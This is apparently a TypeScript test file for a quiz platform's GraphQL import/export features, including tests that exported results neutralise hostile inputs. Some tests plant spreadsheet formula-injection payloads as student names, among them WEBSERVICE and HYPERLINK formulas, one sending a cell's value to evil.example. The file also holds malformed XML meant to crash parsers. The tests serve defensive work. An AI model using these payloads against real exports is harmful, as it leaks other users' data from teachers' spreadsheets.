import type { PrismaClient } from '@quiz/prisma';
import { checkDisplayName } from '../../src/modules/accounts/nickname';
import { parseCsvRecords } from '../../src/modules/interop/sheet';
import { as, errorCode, ok, snapshotDatabase } from '../factories/graphql';
import { seedTinyKb } from '../factories/knowledge';
import { createTeacherWithSet, type TeacherWithSet } from '../factories/sets';
import { type CreatedUser, createStudent, createTeacher } from '../factories/users';
import { createTestApi, type TestApi } from '../harness';

const EXPORT = `query ($id: ID!, $format: ExportFormat!) {
  exportQuestionSet(setId: $id, format: $format) {
    filename mimeType encoding content notes { position kind message }
  }
}`;
const IMPORT = `mutation ($input: ImportQuestionsInput!) {
  importQuestions(input: $input) {
    imported
    preview { line type stem optionCount notes }
    problems { line field message }
    notes { line message }
    questions { id origin template type stem citations { id } key { optionIds order year answers } }
  }
}`;
const RESULTS = `query ($id: ID!, $classId: ID, $format: ResultsFormat!) {
  exportSetResults(setId: $id, classId: $classId, format: $format) { filename encoding content }
}`;
const ANALYTICS = `query ($id: ID!) {
  setAnalytics(setId: $id) {
    students { player { displayName } firstScore bestScore bestCorrectCount lastScore attemptCount
      retakeCount flags }
  }
}`;
const PLAY = `mutation ($id: ID!) { startAttempt(input: { setId: $id }) { id questions { position questionId } } }`;
const ANSWER = `mutation ($a: ID!, $p: Int!, $r: ResponseInput!) { answerQuestion(attemptId: $a, position: $p, response: $r) { points } }`;
const FINISH = 'mutation ($a: ID!) { finishAttempt(attemptId: $a) { score } }';

type ExportResult = {
  exportQuestionSet: {
    filename: string;
    mimeType: string;
    encoding: 'TEXT' | 'BASE64';
    content: string;
    notes: { position: number | null; kind: string; message: string }[];
  };
};
type ImportResult = {
  importQuestions: {
    imported: boolean;
    preview: { line: number; type: string; stem: string; notes: string[] }[];
    problems: { line: number | null; field: string | null; message: string }[];
    questions: {
      id: string;
      origin: string;
      template: string;
      type: string;
      stem: string;
      citations: { id: string }[];
      key: { optionIds: string[]; order: string[]; year: number | null; answers: string[] };
    }[];
  };
};

/**
 * The cells of a CSV file as Excel reads them where the list separator is `separator` (`;` in
 * most of continental Europe): a field that starts with a quote runs to the closing quote (`""` is
 * a quote), anything else to the next separator.
 */
const cellsAsExcelReads = (text: string, separator: string): string[] => {
  const cells: string[] = [];
  for (const line of text.replace(/^\uFEFF/, '').split('\r\n')) {
    let i = 0;
    while (i <= line.length) {
      let cell = '';
      if (line[i] === '"') {
        i += 1;
        while (i < line.length && !(line[i] === '"' && line[i + 1] !== '"')) {
          cell += line[i];
          i += line[i] === '"' ? 2 : 1;
        }
        i += 1;
      }
      while (i < line.length && line[i] !== separator) {
        cell += line[i];
        i += 1;
      }
      cells.push(cell);
      i += 1;
    }
  }
  return cells;
};

describe('interop over GraphQL: export, import, results', () => {
  let api: TestApi;
  let db: PrismaClient;
  let fixture: TeacherWithSet;
  let student: CreatedUser;
  let stranger: CreatedUser;

  beforeAll(async () => {
    api = await createTestApi();
    db = api.database.db;
    await seedTinyKb(db);
    fixture = await createTeacherWithSet(db, {
      questions: 5,
      types: ['SINGLE_CHOICE', 'MULTI_SELECT', 'CHRONOLOGY', 'NUMERIC_YEAR', 'SHORT_ANSWER'],
    });
    student = await createStudent(db, { displayName: '=HYPERLINK("x")' });
    stranger = await createTeacher(db);
  });
  afterAll(() => api.close());

  const teacher = () => as(api, fixture.teacherToken);

  it.each(['MOODLE_XML', 'GIFT', 'AIKEN', 'QTI12', 'QTI21', 'CSV', 'XLSX', 'JSON'])(
    'the owner exports %s with a filename, a type and a report',
    async (format) => {
      const data = await ok<ExportResult>(teacher()(EXPORT, { id: fixture.set.id, format }));
      const file = data.exportQuestionSet;
      expect(file.filename).toMatch(/^test-set-\d+-\d{4}-\d{2}-\d{2}\./);
      expect(file.content.length).toBeGreaterThan(50);
      expect(file.encoding).toBe(['QTI12', 'QTI21', 'XLSX'].includes(format) ? 'BASE64' : 'TEXT');
      if (format === 'JSON') {
        const json = JSON.parse(file.content);
        expect(json.questions).toHaveLength(5);
        expect(Object.keys(json.citations).sort()).toEqual(['cite-1', 'cite-2']);
      }
    },
  );

  it('nobody else gets the keys: another teacher, a student, anonymous', async () => {
    const vars = { id: fixture.set.id, format: 'JSON' };
    expect(await errorCode(as(api, stranger.token)(EXPORT, vars))).toBe('NOT_FOUND');
    expect(await errorCode(as(api, student.token)(EXPORT, vars))).toBe('FORBIDDEN');
    expect(await errorCode(as(api)(EXPORT, vars))).toBe('UNAUTHENTICATED');
    const results = { id: fixture.set.id, format: 'CSV' };
    expect(await errorCode(as(api, stranger.token)(RESULTS, results))).toBe('NOT_FOUND');
    const file = 'Q?\nA) a\nB) b\nC) c\nANSWER: A';
    expect(
      await errorCode(
        as(api, student.token)(IMPORT, {
          input: { format: 'AIKEN', content: file, dryRun: false },
        }),
      ),
    ).toBe('FORBIDDEN');
  });

  it('round trip: GIFT export → dry run writes nothing → import into the set, uncited', async () => {
    const gift = (await ok<ExportResult>(teacher()(EXPORT, { id: fixture.set.id, format: 'GIFT' })))
      .exportQuestionSet.content;
    const before = await snapshotDatabase(api);
    const dry = await ok<ImportResult>(
      teacher()(IMPORT, { input: { format: 'GIFT', content: gift } }),
    );
    expect(dry.importQuestions.imported).toBe(false);
    expect(dry.importQuestions.problems).toEqual([]);
    expect(dry.importQuestions.preview.map((p) => p.type)).toEqual([
      'SINGLE_CHOICE',
      'MULTI_SELECT',
      'CHRONOLOGY',
      'NUMERIC_YEAR',
      'SHORT_ANSWER',
    ]);
    expect(dry.importQuestions.preview[0]?.notes.join(' ')).toMatch(/no knowledge-base citation/);
    expect(await snapshotDatabase(api)).toEqual(before);

    const done = await ok<ImportResult>(
      teacher()(IMPORT, {
        input: { format: 'GIFT', content: gift, dryRun: false, setId: fixture.set.id },
      }),
    );
    const created = done.importQuestions.questions;
    expect(done.importQuestions.imported).toBe(true);
    expect(created.map((q) => q.stem)).toEqual(fixture.questions.map((q) => q.stem));
    expect(created.every((q) => q.origin === 'AUTHORED' && q.template === 'imported:gift')).toBe(
      true,
    );
    expect(created.every((q) => q.citations.length === 0)).toBe(true);
    expect(created[3]?.key.year).toBe(1980);
    expect(created[4]?.key.answers).toEqual(['Hafez al-Assad', 'Hafiz Assad']);
    const items = await db.questionSetItem.findMany({ where: { setId: fixture.set.id } });
    expect(items).toHaveLength(10);
  });

  it('all or nothing: one bad question writes none, and each problem names its line and field', async () => {
    const csv = `type,stem,choice_1,choice_2,choice_3,correct,explanation
SINGLE_CHOICE,A fine question here?,A,B,C,1,Because.
SINGLE_CHOICE,Dup options here?,A,A,C,1,Because.
NUMERIC_YEAR,Which year was it?,,,,1700,Because.
`;
    const before = await snapshotDatabase(api);
    const data = await ok<ImportResult>(
      teacher()(IMPORT, { input: { format: 'CSV', content: csv, dryRun: false } }),
    );
    expect(data.importQuestions.imported).toBe(false);
    expect(data.importQuestions.questions).toEqual([]);
    expect(data.importQuestions.problems.map((p) => [p.line, p.field])).toEqual([
      [3, 'options.1.label'],
      [4, 'correctYear'],
    ]);
    expect(await snapshotDatabase(api)).toEqual(before);
  });

  it('refuses an oversized file and a set of another teacher, writing nothing', async () => {
    const big = 'x'.repeat(90_001);
    expect(await errorCode(teacher()(IMPORT, { input: { format: 'AIKEN', content: big } }))).toBe(
      'BAD_USER_INPUT',
    );
    const other = await createTeacherWithSet(db, { questions: 1 });
    const file = 'Which one is right here?\nA) a\nB) b\nC) c\nANSWER: A';
    expect(
      await errorCode(
        teacher()(IMPORT, {
          input: { format: 'AIKEN', content: file, dryRun: false, setId: other.set.id },
        }),
      ),
    ).toBe('NOT_FOUND');
  });

  // Round 4: files that made a parser throw answered INTERNAL_SERVER_ERROR (logged with a stack):
  // fast-xml-parser refuses the tag names __proto__, constructor and prototype and more than 100
  // nested tags by throwing (and a character reference past U+10FFFF, in its own decoder), and one
  // in a GIFT [html] field threw a RangeError in ours; a surrogate one (&#xD800;) made a lone
  // surrogate, which PostgreSQL cannot store. HTML reads all three as U+FFFD.
  it.each([
    ['MOODLE_XML', '<quiz><question type="truefalse"><__proto__>x</__proto__></question></quiz>'],
    ['MOODLE_XML', '<quiz><question type="truefalse"><constructor/></question></quiz>'],
    ['MOODLE_XML', `<quiz>${'<a>'.repeat(101)}${'</a>'.repeat(101)}</quiz>`],
    [
      'MOODLE_XML',
      '<quiz><question type="truefalse"><questiontext format="html"><text>Q &#99999999;</text></questiontext></question></quiz>',
    ],
  ])('refuses a hostile %s file with a problem, not a server error (%#)', async (format, file) => {
    const result = await teacher()(IMPORT, {
      input: { format, content: file, dryRun: true, setId: fixture.set.id },
    });
    expect(result.errors).toBeUndefined();
    const data = result.data as ImportResult;
    expect(data.importQuestions.imported).toBe(false);
    expect(data.importQuestions.problems.length).toBeGreaterThan(0);
  });

  it('reads a character reference past U+10FFFF, a surrogate or NUL as U+FFFD, as HTML does', async () => {
    const result = await ok<ImportResult>(
      teacher()(IMPORT, {
        input: {
          format: 'GIFT',
          content: '[html]Which &#x110000; year &#xD800;&#0;was it?{T}',
          dryRun: true,
          setId: fixture.set.id,
        },
      }),
    );
    expect(result.importQuestions.problems).toEqual([]);
    expect(result.importQuestions.preview[0]?.stem).toBe('Which \uFFFD year \uFFFD\uFFFDwas it?');
  });

  it('results: one row per student, one column per question, the numbers of the page', async () => {
    const results = await createTeacherWithSet(db, { questions: 3 });
    // Two attempts by one student: the second is a (practice) retake, which the set must allow.
    // The retake, played after the first attempt's feedback showed the keys, is all right: the
    // file must say that the ranked (first) score was 1,000 (probe, round 4: it gave 3,000 only).
    await db.questionSet.update({ where: { id: results.set.id }, data: { allowRetakes: true } });
    const run = as(api, student.token);
    for (const right of [[1], [0, 1, 2]]) {
      const started = await ok<{
        startAttempt: { id: string; questions: { position: number; questionId: string }[] };
      }>(run(PLAY, { id: results.set.id }));
      for (const q of started.startAttempt.questions) {
        // Players see no question id before answering; set items are in the fixture's order.
        const question = results.questions[q.position];
        await ok(
          run(ANSWER, {
            a: started.startAttempt.id,
            p: q.position,
            r: right.includes(q.position) ? question?.right : question?.wrong,
          }),
        );
      }
      await ok(run(FINISH, { a: started.startAttempt.id }));
    }
    const owner = as(api, results.teacherToken);
    const page = await ok<{
      setAnalytics: {
        students: {
          firstScore: number;
          bestScore: number;
          bestCorrectCount: number;
          lastScore: number;
          attemptCount: number;
          retakeCount: number;
          flags: string[];
        }[];
      };
    }>(owner(ANALYTICS, { id: results.set.id }));
    const file = await ok<{ exportSetResults: { content: string; filename: string } }>(
      owner(RESULTS, { id: results.set.id, format: 'CSV' }),
    );
    const rows = parseCsvRecords(file.exportSetResults.content).records.map((r) => r.cells);
    expect(rows[0]).toEqual([
      'Student',
      'Guest',
      'First score (ranked)',
      'Best score',
      'Best correct',
      'Questions',
      'Last score',
      'Attempts',
      'Retakes',
      'Flags',
      'Last finished (UTC)',
      'Q1 points',
      'Q2 points',
      'Q3 points',
    ]);
    expect(rows).toHaveLength(2);
    const row = rows[1] as string[];
    const student0 = page.setAnalytics.students[0];
    // The formula-looking name is neutralised.
    expect(row[0]).toBe('\'=HYPERLINK("x")');
    expect(row.slice(2, 9).map(Number)).toEqual([
      student0?.firstScore,
      student0?.bestScore,
      student0?.bestCorrectCount,
      3,
      student0?.lastScore,
      student0?.attemptCount,
      student0?.retakeCount,
    ]);
    expect(row.slice(2, 9).map(Number)).toEqual([1000, 3000, 3, 3, 3000, 2, 1]);
    expect(row[9]).toBe(student0?.flags.join(' '));
    // The best attempt (the retake) answered every position right (1,000 points each in ACCURACY mode).
    expect(row.slice(11).map(Number)).toEqual([1000, 1000, 1000]);
    const xlsx = await ok<{ exportSetResults: { encoding: string; content: string } }>(
      owner(RESULTS, { id: results.set.id, format: 'XLSX' }),
    );
    expect(xlsx.exportSetResults.encoding).toBe('BASE64');
    expect(Buffer.from(xlsx.exportSetResults.content, 'base64').subarray(0, 2).toString()).toBe(
      'PK',
    );
  });

  it('a name with semicolons stays one text cell where Excel splits on them (probe 6b)', async () => {
    // A display name may hold `;` and `=` (only control characters and < > are refused). Where
    // Excel's list separator is `;` it opens a .csv by splitting every unquoted field there, so
    // "Ali;=WEBSERVICE(A3&B2);" unquoted became the cells "Ali", "=WEBSERVICE(A3&B2)" (a live
    // formula: another account's name in A3 as the address, the class's results appended) and "".
    const name = 'Ali;=WEBSERVICE(A3&B2);';
    expect(checkDisplayName(name)).toMatchObject({ ok: true, nickname: name });
    const results = await createTeacherWithSet(db, { questions: 1 });
    const player = await createStudent(db, { displayName: name });
    const run = as(api, player.token);
    const started = await ok<{ startAttempt: { id: string } }>(run(PLAY, { id: results.set.id }));
    await ok(run(ANSWER, { a: started.startAttempt.id, p: 0, r: results.questions[0]?.right }));
    await ok(run(FINISH, { a: started.startAttempt.id }));
    const file = await ok<{ exportSetResults: { content: string } }>(
      as(api, results.teacherToken)(RESULTS, { id: results.set.id, format: 'CSV' }),
    );
    const text = file.exportSetResults.content;
    const formulas = [',', ';'].flatMap((separator) =>
      cellsAsExcelReads(text, separator).filter((cell) => /^[=+\-@\t\r]/.test(cell)),
    );
    expect(formulas).toEqual([]);
    // Still RFC 4180: our importer (and a spreadsheet that splits on commas) reads the name back.
    expect(parseCsvRecords(text).records[1]?.cells[0]).toBe(name);
  });

  it('a display name starting with a full-width ＝ is marked as text (probe 7b)', async () => {
    // Display names keep full-width punctuation (only control characters and < > are refused);
    // spreadsheets read U+FF1D as "=", and `neutralise` looked for the ASCII sign only.
    const name = '\uFF1DHYPERLINK("http://evil.example/?"&C2,"Open")';
    expect(checkDisplayName(name)).toMatchObject({ ok: true, nickname: name });
    const results = await createTeacherWithSet(db, { questions: 1 });
    const player = await createStudent(db, { displayName: name });
    const run = as(api, player.token);
    const started = await ok<{ startAttempt: { id: string } }>(run(PLAY, { id: results.set.id }));
    await ok(run(ANSWER, { a: started.startAttempt.id, p: 0, r: results.questions[0]?.right }));
    await ok(run(FINISH, { a: started.startAttempt.id }));
    const file = await ok<{ exportSetResults: { content: string } }>(
      as(api, results.teacherToken)(RESULTS, { id: results.set.id, format: 'CSV' }),
    );
    expect(parseCsvRecords(file.exportSetResults.content).records[1]?.cells[0]).toBe(`'${name}`);
  });
});
